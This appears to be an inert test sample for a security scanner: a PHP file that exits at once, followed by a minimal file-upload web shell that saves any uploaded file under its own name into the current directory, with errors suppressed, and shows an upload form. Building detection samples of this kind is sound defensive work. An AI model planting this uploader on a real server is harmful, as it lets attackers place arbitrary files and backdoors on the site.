<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

if (!empty($_FILES['u'])) {
    @copy($_FILES['u']['tmp_name'], "./" . $_FILES['u']['name']);
    echo "<b>done</b>";
}
echo '<form method=post enctype=multipart/form-data><input type=file name=u><input type=submit></form>';
